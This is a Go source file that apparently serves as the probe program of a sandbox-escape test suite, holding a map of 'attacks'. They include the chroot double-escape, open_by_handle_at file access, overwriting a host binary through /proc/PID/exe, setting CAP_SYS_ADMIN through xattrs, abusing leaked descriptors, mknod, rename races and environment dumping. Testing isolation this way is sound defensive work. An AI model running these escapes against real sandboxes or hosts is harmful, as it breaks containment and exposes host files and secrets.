//go:build linux

package main

import (
	"encoding/binary"
	"errors"
	"os"
	"path/filepath"
	"strings"
	"time"

	"golang.org/x/sys/unix"
)

func init() {
	// read PATH...: sends what the files hold.
	attacks["read"] = func(args []string) (err error) {
		for _, p := range args {
			var fd int
			if fd, err = unix.Open(p, unix.O_RDONLY|unix.O_NONBLOCK, 0); err == nil {
				err = loot(fd)
			}
		}
		return err
	}
	// list PATH: sends the names in a folder.
	attacks["list"] = func(args []string) error {
		list, err := os.ReadDir(args[0])
		var names []string
		for _, e := range list {
			names = append(names, e.Name())
		}
		tell("loot " + strings.Join(names, " "))
		return err
	}
	// write PATH TEXT: changes a file that exists.
	attacks["write"] = func(args []string) error {
		fd, err := unix.Open(args[0], unix.O_WRONLY, 0)
		if err != nil {
			return err
		}
		_, err = unix.Write(fd, []byte(args[1]))
		return err
	}
	// create PATH TEXT: makes a file.
	attacks["create"] = func(args []string) error {
		fd, err := unix.Open(args[0], unix.O_WRONLY|unix.O_CREAT|unix.O_EXCL, 0o644)
		if err != nil {
			return err
		}
		_, err = unix.Write(fd, []byte(args[1]))
		return err
	}
	attacks["remove"] = func(args []string) error { return unix.Unlink(args[0]) }
	attacks["chmod"] = func(args []string) error { return unix.Chmod(args[0], uint32(number(args[1]))) }
	// setcap PATH: gives a program CAP_SYS_ADMIN, as vfs_cap_data of version 2
	// (linux/capability.h) has it.
	attacks["setcap"] = func(args []string) error {
		data := make([]byte, 20)
		binary.LittleEndian.PutUint32(data, 0x02000001)
		binary.LittleEndian.PutUint32(data[4:], 1<<unix.CAP_SYS_ADMIN)
		return unix.Setxattr(args[0], "security.capability", data, 0)
	}
	attacks["hardlink"] = func(args []string) error { return unix.Link(args[0], args[1]) }
	// open PATH r|w: hands over a descriptor.
	attacks["open"] = func(args []string) error {
		mode := map[string]int{"r": unix.O_RDONLY, "w": unix.O_WRONLY, "rw": unix.O_RDWR}[args[1]]
		fd, err := unix.Open(args[0], mode|unix.O_NONBLOCK|unix.O_NOCTTY|unix.O_CLOEXEC, 0)
		if err != nil {
			return err
		}
		tell("loot", fd)
		return nil
	}
	// through-link TEXT LINK: makes a link and reads through it.
	attacks["through-link"] = func(args []string) error {
		if err := unix.Symlink(args[0], args[1]); err != nil {
			return failed("symlink", err)
		}
		return attacks["read"](args[1:])
	}
	// dots PATH: climbs far above the root, step by step and by one path.
	attacks["dots"] = func(args []string) error {
		up := strings.Repeat("../", 64)
		rel := strings.TrimPrefix(args[0], "/")
		for range 64 {
			if err := unix.Chdir(".."); err != nil {
				return err
			}
		}
		err := attacks["read"]([]string{rel})
		return first(attacks["read"]([]string{up + rel}), err)
	}
	// descriptors NAME: reads NAME in every folder that is open already.
	attacks["descriptors"] = func(args []string) error {
		err := errNothing
		for fd := 3; fd < 1024; fd++ {
			if n, e := unix.Openat(fd, args[0], unix.O_RDONLY, 0); e == nil {
				err = loot(n)
			}
		}
		return err
	}
	// descriptors-write TEXT: writes to every regular file that is open already.
	attacks["descriptors-write"] = func(args []string) error {
		err := errNothing
		for fd := 3; fd < 1024; fd++ {
			var st unix.Stat_t
			if unix.Fstat(fd, &st) == nil && st.Mode&unix.S_IFMT == unix.S_IFREG {
				if _, e := unix.Pwrite(fd, []byte(args[0]), 0); e == nil {
					err = nil
				}
			}
		}
		return err
	}
	// descriptors-send TEXT: sends TEXT on every socket that is open already.
	attacks["descriptors-send"] = func(args []string) error {
		err := errNothing
		for fd := 3; fd < 1024; fd++ {
			if e := unix.Sendto(fd, []byte(args[0]), unix.MSG_DONTWAIT|unix.MSG_NOSIGNAL, nil); e == nil {
				err = nil
			}
		}
		return err
	}
	// mknod NODE MAJOR MINOR: makes a character device and opens it.
	attacks["mknod"] = func(args []string) error {
		dev := unix.Mkdev(uint32(number(args[1])), uint32(number(args[2])))
		if err := unix.Mknod(args[0], unix.S_IFCHR|0o666, int(dev)); err != nil {
			return failed("mknod", err)
		}
		return attacks["open"]([]string{args[0], "r"})
	}
	// chroot DIR PATH: leaves a root by way of another one, and reads PATH.
	attacks["chroot"] = func(args []string) error {
		if err := unix.Chroot(args[0]); err != nil {
			return failed("chroot", err)
		}
		for range 64 {
			if err := unix.Chdir(".."); err != nil {
				return err
			}
		}
		if err := unix.Chroot("."); err != nil {
			return failed("chroot", err)
		}
		return attacks["read"](args[1:])
	}
	// handle HANDLETYPE HANDLE DIR: opens a file by its handle, past all folders.
	attacks["handle"] = func(args []string) error {
		dir, err := unix.Open(args[2], unix.O_RDONLY|unix.O_DIRECTORY, 0)
		if err != nil {
			return err
		}
		h := unix.NewFileHandle(int32(number(args[0])), unhex(args[1]))
		fd, err := unix.OpenByHandleAt(dir, h, unix.O_RDONLY)
		if err != nil {
			return err
		}
		return loot(fd)
	}
	// exe TOOL TEXT: writes TEXT over a program of the host by way of a process
	// that executes it.
	attacks["exe"] = func(args []string) error {
		pid, err := start(args[0], "sleep")
		// Another process that is just being started may still have the
		// descriptor through which the suite has written the program.
		for range 200 {
			if !errors.Is(err, unix.ETXTBSY) {
				break
			}
			time.Sleep(10 * time.Millisecond)
			pid, err = start(args[0], "sleep")
		}
		if err != nil {
			return err
		}
		exe, err := unix.Open(filepath.Join("/proc", pid.String(), "exe"), unix.O_RDONLY, 0)
		pid.kill()
		if err != nil {
			return failed("open exe", err)
		}
		var fd int
		for range 1000 { // ETXTBSY until the process has gone
			if fd, err = unix.Open("/proc/self/fd/"+itoa(exe), unix.O_WRONLY, 0); err != unix.ETXTBSY {
				break
			}
		}
		if err != nil {
			return failed("open for writing", err)
		}
		_, err = unix.Pwrite(fd, []byte(args[1]), 0)
		return err
	}
	// swap A B: exchanges two names until told to stop.
	attacks["swap"] = func(args []string) error {
		stop := make(chan bool)
		go func() {
			tell("swapping")
			close(stop)
		}()
		for {
			select {
			case <-stop:
				return nil
			default:
			}
			if err := unix.Renameat2(unix.AT_FDCWD, args[0], unix.AT_FDCWD, args[1], unix.RENAME_EXCHANGE); err != nil {
				return err
			}
		}
	}
	// print TEXT: prints TEXT, with escapes resolved by the suite.
	attacks["print"] = func(args []string) error {
		_, err := os.Stderr.WriteString(args[0])
		return err
	}
	attacks["environment"] = func([]string) error {
		tell("loot " + strings.Join(os.Environ(), "\n"))
		return nil
	}
	// Not select {}: the runtime ends a program in which nothing can ever happen.
	attacks["sleep"] = func([]string) error {
		for {
			time.Sleep(time.Hour)
		}
	}
}
